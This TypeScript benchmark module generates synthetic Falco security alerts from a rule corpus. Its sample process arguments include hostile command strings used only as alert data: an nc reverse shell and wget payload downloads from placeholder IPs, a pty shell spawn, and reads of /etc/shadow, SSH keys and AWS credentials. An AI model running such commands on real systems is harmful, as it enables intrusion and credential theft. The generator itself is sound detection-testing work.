// Deterministic generator of realistic Falco alerts for the benchmarks. Every event comes from one of the
// real Falco rules of bench/data/falco-rules-corpus.json (name, emitted priority, source, tags, output
// fields, output template) and is serialised the way Falco ≥ 0.39 does with json_output: keys sorted
// byte-wise at both levels, compact, `time` with 9 fractional digits and Z, `output` = "HH:MM:SS.nnnnnnnnn:
// <Priority> <message>", typed `output_fields` (strings, integers, `evt.time` as an exact 19-digit integer,
// arrays for list fields, null when a field is not available) and, for syscall rules, the container
// plugin's suggested fields (container.*, k8s.pod.name, k8s.ns.name) appended as Falco ≥ 0.41 does.
// The same seed always gives the same bodies.
import { readFileSync } from "node:fs";

export interface CorpusRule {
  readonly rule: string;
  /** The priority Falco emits ("Warning", "Informational", …). */
  readonly priority: string;
  readonly source: string;
  readonly enabled: boolean;
  readonly tags: readonly string[];
  readonly output_fields: readonly string[];
  readonly output: string;
  readonly file: string;
}

export const DEFAULT_CORPUS = new URL("./data/falco-rules-corpus.json", import.meta.url);

/** Loads the corpus (BENCH_CORPUS overrides the path). */
export function loadCorpus(path: string | URL = process.env["BENCH_CORPUS"] ?? DEFAULT_CORPUS): CorpusRule[] {
  const rules = JSON.parse(readFileSync(path, "utf8")) as CorpusRule[];
  if (!Array.isArray(rules) || rules.length === 0) throw new Error(`the corpus ${String(path)} holds no rules`);
  return rules;
}

/** The rules Falco would actually fire with its default configuration. */
export function enabledRules(corpus: readonly CorpusRule[]): CorpusRule[] {
  return corpus.filter((r) => r.enabled);
}

// ---- seeded randomness -------------------------------------------------------------------------------

export interface Rng {
  /** Uniform in [0, 1). */
  next(): number;
  /** Integer in [0, n). */
  int(n: number): number;
  pick<T>(items: readonly T[]): T;
  chance(p: number): boolean;
}

/** mulberry32: small, fast, and good enough to pick test data. */
export function createRng(seed: number): Rng {
  let state = seed >>> 0;
  const next = (): number => {
    state = (state + 0x6d2b79f5) >>> 0;
    let t = state;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
  const int = (n: number): number => Math.floor(next() * n);
  return {
    next,
    int,
    pick: <T>(items: readonly T[]): T => {
      if (items.length === 0) throw new Error("pick from an empty list");
      return items[int(items.length)]!;
    },
    chance: (p: number): boolean => next() < p,
  };
}

/** Fisher–Yates with the given generator; returns a new array. */
export function shuffled<T>(items: readonly T[], rng: Rng): T[] {
  const out = [...items];
  for (let i = out.length - 1; i > 0; i--) {
    const j = rng.int(i + 1);
    [out[i], out[j]] = [out[j]!, out[i]!];
  }
  return out;
}

// ---- the world the events describe -------------------------------------------------------------------

type Value = string | number | bigint | boolean | null | readonly string[];

/** Namespaces with their weight; kube-system is frequent, as on real clusters (rules exclude it). */
export const NAMESPACES: readonly (readonly [name: string, weight: number, apps: readonly string[]])[] = [
  ["default", 8, ["nginx", "web", "api"]],
  ["prod", 14, ["checkout", "cart", "catalog", "frontend"]],
  ["payments", 8, ["payments-api", "ledger", "fraud-scorer"]],
  ["frontend", 8, ["webapp", "static", "edge-proxy"]],
  ["backend", 10, ["orders", "users", "inventory", "search"]],
  ["data", 6, ["postgres", "redis", "kafka", "etl-runner"]],
  ["ci", 6, ["runner", "buildkit", "docker-dind"]],
  ["monitoring", 6, ["prometheus", "grafana", "node-exporter"]],
  ["falco", 4, ["falco", "falcosidekick", "kestrel"]],
  ["kube-system", 12, ["coredns", "kube-proxy", "aws-node", "ebs-csi-node", "metrics-server"]],
];
const NAMESPACE_WEIGHT = NAMESPACES.reduce((s, n) => s + n[1], 0);

const IMAGES: Record<string, readonly [repository: string, tag: string]> = {
  nginx: ["docker.io/library/nginx", "1.27.3"],
  web: ["ghcr.io/acme/web", "v2.14.0"],
  api: ["ghcr.io/acme/api", "v2.14.0"],
  postgres: ["docker.io/library/postgres", "16.4"],
  redis: ["docker.io/library/redis", "7.4-alpine"],
  kafka: ["docker.io/bitnami/kafka", "3.8.0"],
  prometheus: ["quay.io/prometheus/prometheus", "v2.54.1"],
  grafana: ["docker.io/grafana/grafana", "11.2.0"],
  coredns: ["registry.k8s.io/coredns/coredns", "v1.11.3"],
  "kube-proxy": ["registry.k8s.io/kube-proxy", "v1.31.1"],
  falco: ["docker.io/falcosecurity/falco", "0.41.3"],
  "docker-dind": ["docker.io/library/docker", "27-dind"],
};
const DEFAULT_IMAGE_REGISTRY = "123456789012.dkr.ecr.us-east-1.amazonaws.com/acme";

const HOSTNAMES = [
  "ip-10-0-1-23.ec2.internal",
  "ip-10-0-1-87.ec2.internal",
  "ip-10-0-2-14.ec2.internal",
  "ip-10-0-2-201.ec2.internal",
  "ip-10-0-3-45.ec2.internal",
  "ip-10-0-3-99.ec2.internal",
];

const PROCESSES: readonly (readonly [name: string, exepath: string, args: readonly string[]])[] = [
  ["bash", "/usr/bin/bash", ["", "-i", "-c 'id; uname -a'"]],
  ["sh", "/usr/bin/dash", ["-c 'cat /etc/shadow'", "-c 'command -v bash >/dev/null && exec bash || exec sh'", ""]],
  ["cat", "/usr/bin/cat", ["/etc/shadow", "/etc/passwd", "/root/.ssh/id_rsa"]],
  [
    "curl",
    "/usr/bin/curl",
    ["-s http://169.254.169.254/latest/meta-data/", "-fsSL https://example.com/install.sh", "-o /tmp/x http://198.51.100.7/x"],
  ],
  ["wget", "/usr/bin/wget", ["-q -O - http://203.0.113.9/payload.sh", "http://198.51.100.7/xmrig"]],
  ["python3", "/usr/bin/python3.12", ["-c 'import pty; pty.spawn(\"/bin/sh\")'", "/app/manage.py migrate", "app.py"]],
  ["nc", "/usr/bin/nc.openbsd", ["-e /bin/sh 198.51.100.7 4444", "-lvnp 9001"]],
  ["find", "/usr/bin/find", ["/ -perm -4000 -type f", "/ -name id_rsa"]],
  ["apt-get", "/usr/bin/apt-get", ["install -y nmap", "update"]],
  ["kubectl", "/usr/local/bin/kubectl", ["get secrets -A", "exec -it web-0 -- sh"]],
  ["node", "/usr/local/bin/node", ["server.js", "dist/index.js"]],
  ["java", "/opt/java/openjdk/bin/java", ["-jar /app/app.jar"]],
  ["chmod", "/usr/bin/chmod", ["+x /tmp/xmrig", "4755 /tmp/sh"]],
  ["mount", "/usr/bin/mount", ["/dev/sda1 /mnt", "-t proc proc /host/proc"]],
];
const PARENTS = ["containerd-shim", "runc", "bash", "sh", "sshd", "systemd", "node", "python3", "java", "sudo", "cron"];
const USERS: readonly (readonly [name: string, uid: number])[] = [
  ["root", 0],
  ["root", 0],
  ["www-data", 33],
  ["nobody", 65534],
  ["app", 1000],
  ["ubuntu", 1000],
];
const FILES = [
  "/etc/shadow",
  "/etc/passwd",
  "/etc/sudoers",
  "/root/.ssh/id_rsa",
  "/root/.aws/credentials",
  "/var/run/docker.sock",
  "/proc/self/environ",
  "/etc/ld.so.preload",
  "/tmp/.x/xmrig",
  "/dev/shm/.s",
  "/usr/bin/ps",
  "/etc/cron.d/backdoor",
  "/var/log/auth.log",
  "/etc/kubernetes/admin.conf",
];
const REMOTE_IPS = ["10.0.4.12", "10.96.0.1", "169.254.169.254", "198.51.100.7", "203.0.113.9", "192.0.2.44", "172.20.3.8"];
const PORTS = [22, 53, 80, 443, 2379, 4444, 6443, 8080, 9001, 10250];
const K8S_USERS = [
  "system:serviceaccount:ci:runner",
  "system:serviceaccount:kube-system:replicaset-controller",
  "alice@example.com",
  "bob@example.com",
  "kubernetes-admin",
  "system:anonymous",
];
const K8S_RESOURCES = ["pods", "deployments", "services", "configmaps", "secrets", "namespaces", "roles", "clusterroles", "rolebindings"];
const AWS_REGIONS = ["us-east-1", "us-east-1", "us-west-2", "eu-west-1", "ap-southeast-2"];
const AWS_USERS = ["alice", "bob", "ci-deployer", "root", "terraform"];

/** Where a syscall event happened: a pod, or the host itself (no k8s fields then). */
interface Place {
  readonly hostname: string;
  readonly namespace: string | null;
  readonly pod: string | null;
  readonly app: string | null;
  readonly containerId: string;
  readonly containerName: string;
  readonly imageRepository: string | null;
  readonly imageTag: string | null;
}

const HEX = "0123456789abcdef";
const ALNUM = "bcdfghjklmnpqrstvwxz2456789";

function randomText(rng: Rng, alphabet: string, n: number): string {
  let s = "";
  for (let i = 0; i < n; i++) s += alphabet[rng.int(alphabet.length)];
  return s;
}

function pickNamespace(rng: Rng): (typeof NAMESPACES)[number] {
  let r = rng.next() * NAMESPACE_WEIGHT;
  for (const ns of NAMESPACES) {
    r -= ns[1];
    if (r < 0) return ns;
  }
  return NAMESPACES[0]!;
}

function pickPlace(rng: Rng): Place {
  const hostname = rng.pick(HOSTNAMES);
  if (rng.chance(0.12)) {
    return {
      hostname,
      namespace: null,
      pod: null,
      app: null,
      containerId: "host",
      containerName: "host",
      imageRepository: null,
      imageTag: null,
    };
  }
  const [namespace, , apps] = pickNamespace(rng);
  const app = rng.pick(apps);
  const pod = `${app}-${randomText(rng, ALNUM, 10)}-${randomText(rng, ALNUM, 5)}`;
  const [imageRepository, imageTag] = IMAGES[app] ?? [`${DEFAULT_IMAGE_REGISTRY}/${app}`, `1.${rng.int(30)}.${rng.int(10)}`];
  return { hostname, namespace, pod, app, containerId: randomText(rng, HEX, 12), containerName: app, imageRepository, imageTag };
}

// ---- field values ---------------------------------------------------------------------------------------

interface FieldContext {
  readonly rng: Rng;
  readonly place: Place;
  readonly rule: CorpusRule;
  readonly process: (typeof PROCESSES)[number];
  readonly parent: string;
  readonly user: (typeof USERS)[number];
  readonly evtTimeNs: bigint;
  readonly namespace: string;
}

function evtTypeFor(rule: CorpusRule, rng: Rng): string {
  const f = rule.output_fields;
  if (f.includes("fd.rport") || f.includes("fd.sip") || f.includes("fd.rip")) return rng.pick(["connect", "accept4", "sendto"]);
  if (f.includes("evt.arg.newpath") || f.includes("evt.arg.oldpath")) return rng.pick(["renameat2", "linkat", "symlinkat"]);
  if (f.includes("evt.arg.mode")) return "chmod";
  if (f.includes("evt.arg.uid")) return "setuid";
  if (f.includes("fd.name")) return rng.pick(["openat", "openat2", "open"]);
  return "execve";
}

/** The value Falco would put in output_fields for `field`; typed as libsinsp does. */
function fieldValue(field: string, c: FieldContext): Value {
  const { rng, process: proc, place } = c;
  if (field.startsWith("proc.aname[") || field.startsWith("proc.aexepath[")) {
    const depth = Number(field.slice(field.indexOf("[") + 1, -1));
    return depth > 2 + rng.int(3) ? null : rng.pick(PARENTS);
  }
  if (field.startsWith("jevt.value["))
    return rng.chance(0.5) ? null : `[{"hostPath":{"path":"${rng.pick(["/", "/etc", "/var/run/docker.sock", "/proc"])}"},"name":"host"}]`;
  if (field.startsWith("json.value[")) return `i-0${randomText(rng, HEX, 16)}`;
  if (field.startsWith("ka.uri.param[")) return rng.pick(["sh", "bash", "cat /etc/shadow", null]);
  switch (field) {
    case "evt.type":
      return evtTypeFor(c.rule, rng);
    case "evt.res":
      return rng.chance(0.9) ? "SUCCESS" : "EACCES";
    case "evt.arg.flags":
      return rng.pick([
        "O_RDONLY",
        "O_RDONLY|O_CLOEXEC",
        "O_WRONLY|O_CREAT|O_TRUNC",
        "EXE_WRITABLE|EXE_UPPER_LAYER",
        "EXE_WRITABLE",
        "O_RDWR",
      ]);
    case "evt.arg.mode":
      return rng.pick(["S_IXUSR|S_IWUSR|S_IRUSR", "S_ISUID|S_IXOTH|S_IROTH|S_IXGRP|S_IRGRP|S_IRWXU", "0755"]);
    case "evt.arg.uid":
      return rng.pick(["0", "1000"]);
    case "evt.arg.fd":
      return rng.int(40);
    case "evt.arg.cmd":
      return rng.pick(["BPF_PROG_LOAD", "BPF_MAP_CREATE"]);
    case "evt.arg.name":
    case "evt.arg.filename":
    case "evt.arg.path":
    case "evt.arg.target":
    case "evt.arg.linkpath":
    case "evt.arg.newpath":
    case "evt.arg.oldpath":
      return rng.pick(FILES);
    case "evt.args":
      return `fd=${rng.int(40)}(<f>${rng.pick(FILES)}) flags=${rng.int(8)}`;
    case "evt.num":
      return 1 + rng.int(50_000_000);
    case "evt.time":
    case "evt.time.iso8601":
      return c.evtTimeNs;
    case "evt.plugininfo":
      return `${rng.pick(["ConsoleLogin", "CreateUser", "RunInstances", "PutBucketPolicy"])} ${rng.pick(AWS_USERS)}`;
    case "user.name":
      return c.user[0];
    case "user.loginname":
      return rng.chance(0.7) ? "" : "ubuntu";
    case "user.uid":
      return c.user[1];
    case "user.loginuid":
      return rng.chance(0.8) ? -1 : 1000;
    case "group.gid":
      return c.user[1];
    case "group.name":
      return c.user[0];
    case "proc.name":
      return proc[0];
    case "proc.exepath":
    case "proc.exe":
      return proc[1];
    case "proc.cmdline":
      return `${proc[0]} ${rng.pick(proc[2])}`.trimEnd();
    case "proc.args":
      return rng.pick(proc[2]);
    case "proc.pname":
      return rng.chance(0.05) ? null : c.parent;
    case "proc.pcmdline":
      return `${c.parent} ${rng.pick(["", "-c /entrypoint.sh", "-namespace k8s.io -id 1e579f838ea3"])}`.trimEnd();
    case "proc.pexepath":
    case "proc.pexe":
      return `/usr/bin/${c.parent}`;
    case "proc.sname":
      return rng.pick(["bash", "containerd-shim", "sshd"]);
    case "proc.tty":
      return rng.chance(0.6) ? 0 : 34816 + rng.int(4);
    case "proc.cwd":
      return rng.pick(["/", "/app", "/tmp", "/root"]);
    case "proc.env":
      return `PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin HOSTNAME=${place.pod ?? place.hostname} HOME=/root`;
    case "proc.exe_ino.ctime":
    case "proc.exe_ino.mtime":
      return c.evtTimeNs - BigInt(rng.int(3_600)) * 1_000_000_000n;
    case "proc.exe_ino.ctime_duration_proc_start":
      return BigInt(rng.int(60_000)) * 1_000_000n;
    case "thread.cap_effective":
    case "thread.cap_permitted":
      return rng.pick(["CAP_CHOWN CAP_DAC_OVERRIDE CAP_FOWNER CAP_SETUID CAP_SETGID CAP_NET_BIND_SERVICE", "CAP_SYS_ADMIN"]);
    case "fd.name":
      return rng.pick(FILES);
    case "fd.nameraw":
      return `/etc/../${rng.pick(["etc/shadow", "etc/passwd"])}`;
    case "fd.type":
      return "ipv4";
    case "fd.l4proto":
      return rng.chance(0.85) ? "tcp" : "udp";
    case "fd.lport":
    case "fd.sport":
      return 30000 + rng.int(30000);
    case "fd.rport":
      return rng.pick(PORTS);
    case "fd.rip":
    case "fd.sip":
      return rng.pick(REMOTE_IPS);
    case "fd.rip.name":
    case "fd.sip.name":
    case "fd.lip.name":
    case "fd.cip.name":
      return rng.chance(0.5) ? null : rng.pick(["kubernetes.default.svc", "pool.minexmr.com", "api.github.com"]);
    case "container.start_ts":
      return c.evtTimeNs - BigInt(rng.int(86_400)) * 1_000_000_000n;
    case "container.mounts":
      return "/var/run/docker.sock:/var/run/docker.sock::true:private";
    // Kubernetes audit (k8saudit plugin): strings, and arrays for list fields.
    case "ka.user.name":
      return rng.pick(K8S_USERS);
    case "ka.verb":
      return rng.pick(["create", "update", "patch", "delete", "get"]);
    case "ka.uri":
      return `/api/v1/namespaces/${c.namespace}/${rng.pick(K8S_RESOURCES)}`;
    case "ka.target.resource":
      return rng.pick(K8S_RESOURCES);
    case "ka.target.subresource":
      return rng.pick(["exec", "attach", "portforward"]);
    case "ka.target.name":
    case "ka.resp.name":
      return `${rng.pick(["web", "api", "worker", "db"])}-${randomText(rng, ALNUM, 5)}`;
    case "ka.target.namespace":
      return c.namespace;
    case "ka.response.code":
      return rng.pick(["200", "201", "201", "403"]);
    case "ka.response.reason":
      return rng.pick(["Forbidden", ""]);
    case "ka.auth.decision":
      return rng.pick(["allow", "allow", "forbid"]);
    case "ka.auth.reason":
      return `RBAC: allowed by ClusterRoleBinding "${rng.pick(["cluster-admin", "system:controller:replicaset-controller", "ci-deployer"])}"`;
    case "ka.req.pod.containers.image":
      return [`${rng.pick(Object.values(IMAGES))[0]}:${rng.pick(["latest", "1.0.0"])}`];
    case "ka.req.pod.initContainers.image":
    case "ka.req.pod.ephemeralContainers.image":
      return rng.chance(0.7) ? null : ["docker.io/library/busybox:1.36"];
    case "ka.req.role.rules":
      return [
        '{"apiGroups":[""],"resources":["pods/exec"],"verbs":["create","get"]}',
        '{"apiGroups":["*"],"resources":["*"],"verbs":["*"]}',
      ];
    case "ka.req.binding.subjects":
      return [`{"kind":"ServiceAccount","name":"default","namespace":"${c.namespace}"}`];
    case "ka.req.binding.role":
      return rng.pick(["cluster-admin", "edit", "view"]);
    case "ka.req.service.ports":
      return [`{"nodePort":${30000 + rng.int(2767)},"port":80,"protocol":"TCP","targetPort":8080}`];
    case "ka.req.configmap.name":
      return `app-config-${randomText(rng, ALNUM, 4)}`;
    case "jevt.obj":
      return `{"kind":"Event","apiVersion":"audit.k8s.io/v1","level":"Request","stage":"ResponseComplete","verb":"get"}`;
    // CloudTrail (cloudtrail plugin): strings.
    case "ct.user":
    case "ct.request.username":
      return rng.pick(AWS_USERS);
    case "ct.user.principalid":
      return `AROA${randomText(rng, "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567", 17)}:${rng.pick(AWS_USERS)}`;
    case "ct.user.arn":
      return `arn:aws:sts::123456789012:assumed-role/${rng.pick(["Admin", "ReadOnly", "Deployer"])}/${rng.pick(AWS_USERS)}`;
    case "ct.srcip":
      return rng.pick(["198.51.100.23", "203.0.113.77", "192.0.2.10", "AWS Internal"]);
    case "ct.region":
      return rng.pick(AWS_REGIONS);
    case "ct.id":
      return `${randomText(rng, HEX, 8)}-${randomText(rng, HEX, 4)}-${randomText(rng, HEX, 4)}-${randomText(rng, HEX, 4)}-${randomText(rng, HEX, 12)}`;
    case "ct.error":
      return rng.chance(0.8) ? null : "AccessDenied";
    case "s3.bucket":
      return `acme-${rng.pick(["logs", "backups", "artifacts", "public-assets"])}`;
    default:
      if (field.startsWith("ct.")) return `${field.slice(field.lastIndexOf(".") + 1)}-${randomText(rng, ALNUM, 6)}`;
      return `${field.replaceAll(".", "-")}-${randomText(rng, ALNUM, 4)}`;
  }
}

// ---- serialisation ---------------------------------------------------------------------------------------

/** JSON text of a value; bigints as exact integers (as Falco's nlohmann::json writes int64). */
function jsonValue(v: Value): string {
  if (v === null) return "null";
  if (typeof v === "bigint") return v.toString();
  if (Array.isArray(v)) return `[${v.map((x) => JSON.stringify(x)).join(",")}]`;
  return JSON.stringify(v);
}

/** Compact JSON object with keys in byte-wise sorted order (ASCII keys: UTF-16 order = byte order). */
function jsonObject(entries: Record<string, string>): string {
  const keys = Object.keys(entries).sort();
  return `{${keys.map((k) => `${JSON.stringify(k)}:${entries[k]}`).join(",")}}`;
}

/** How a value reads in Falco's output text: `<NA>` for null, `(a,b)` for lists. */
function textValue(v: Value): string {
  if (v === null) return "<NA>";
  if (Array.isArray(v)) return `(${v.join(",")})`;
  return String(v);
}

const FIELD_TOKEN = /%([A-Za-z0-9_.]+(?:\[[^\]]*\])?)/g;

/** Falco ≥ 0.41 appends the container plugin's suggested fields to syscall rules' output. */
export const SUGGESTED_FIELDS = [
  "container.id",
  "container.name",
  "container.image.repository",
  "container.image.tag",
  "k8s.pod.name",
  "k8s.ns.name",
] as const;

function twoDigits(n: number): string {
  return n < 10 ? `0${n}` : String(n);
}

/** `time` (UTC RFC 3339, 9 digits, Z) and the output prefix time (HH:MM:SS.nnnnnnnnn, in UTC here). */
function formatTimes(ns: bigint): { iso: string; clock: string } {
  const seconds = ns / 1_000_000_000n;
  const fraction = (ns % 1_000_000_000n).toString().padStart(9, "0");
  const d = new Date(Number(seconds) * 1000);
  const clock = `${twoDigits(d.getUTCHours())}:${twoDigits(d.getUTCMinutes())}:${twoDigits(d.getUTCSeconds())}`;
  return { iso: `${d.toISOString().slice(0, 19)}.${fraction}Z`, clock: `${clock}.${fraction}` };
}

export interface GenerateOptions {
  /** Default 42 (or BENCH_SEED). */
  seed?: number;
  corpus?: readonly CorpusRule[];
  /** Epoch nanoseconds of the first event; default 2026-01-15T10:00:00Z. */
  startNs?: bigint;
}

export interface GeneratedEvent {
  readonly body: string;
  readonly rule: string;
  readonly source: string;
  readonly priority: string;
}

export function defaultSeed(): number {
  const s = Number(process.env["BENCH_SEED"] ?? "42");
  return Number.isFinite(s) ? s : 42;
}

/** `count` Falco alerts from the enabled corpus rules, uniformly, with their metadata. */
export function generateEventRecords(count: number, options: GenerateOptions = {}): GeneratedEvent[] {
  const rng = createRng(options.seed ?? defaultSeed());
  const rules = enabledRules(options.corpus ?? loadCorpus());
  let ns = options.startNs ?? 1_768_471_200_000_000_000n;
  const out: GeneratedEvent[] = [];
  for (let i = 0; i < count; i++) {
    ns += BigInt(1 + rng.int(40_000_000)); // up to 40 ms between alerts
    const rule = rng.pick(rules);
    out.push({ body: formatEvent(rule, ns, rng), rule: rule.rule, source: rule.source, priority: rule.priority });
  }
  return out;
}

/** `count` event bodies (JSON strings), deterministic for a given seed. */
export function generateEvents(count: number, options: GenerateOptions = {}): string[] {
  return generateEventRecords(count, options).map((e) => e.body);
}

function formatEvent(rule: CorpusRule, evtTimeNs: bigint, rng: Rng): string {
  const syscall = rule.source === "syscall";
  const place = pickPlace(rng);
  const ctx: FieldContext = {
    rng,
    place,
    rule,
    process: rng.pick(PROCESSES),
    parent: rng.pick(PARENTS),
    user: rng.pick(USERS),
    evtTimeNs,
    namespace: place.namespace ?? pickNamespace(rng)[0],
  };
  const values = new Map<string, Value>();
  for (const field of rule.output_fields) values.set(field, fieldValue(field, ctx));
  let message = rule.output.replace(FIELD_TOKEN, (_m, field: string) => textValue(values.has(field) ? values.get(field)! : null));
  if (syscall) {
    const suggested: Record<(typeof SUGGESTED_FIELDS)[number], Value> = {
      "container.id": place.containerId,
      "container.name": place.containerName,
      "container.image.repository": place.imageRepository,
      "container.image.tag": place.imageTag,
      "k8s.pod.name": place.pod,
      "k8s.ns.name": place.namespace,
    };
    for (const field of SUGGESTED_FIELDS) {
      values.set(field, suggested[field]);
      message += ` ${field.replaceAll(".", "_")}=${textValue(suggested[field])}`;
    }
  }
  values.set("evt.time", evtTimeNs);

  const fields: Record<string, string> = {};
  for (const [k, v] of values) fields[k] = jsonValue(v);
  const { iso, clock } = formatTimes(evtTimeNs);
  const tags = [...new Set(rule.tags)].sort();
  return jsonObject({
    hostname: JSON.stringify(syscall ? place.hostname : rng.pick(["falco-k8saudit-0", "falco-cloudtrail-0"])),
    output: JSON.stringify(`${clock}: ${rule.priority} ${message}`),
    output_fields: jsonObject(fields),
    priority: JSON.stringify(rule.priority),
    rule: JSON.stringify(rule.rule),
    source: JSON.stringify(rule.source),
    tags: JSON.stringify(tags),
    time: JSON.stringify(iso),
  });
}

// `node bench/events.ts [count]` prints events, one per line (to look at them or feed curl).
if (import.meta.main) {
  const count = Number(process.argv[2] ?? "3");
  for (const body of generateEvents(Number.isFinite(count) ? count : 3)) process.stdout.write(`${body}\n`);
}
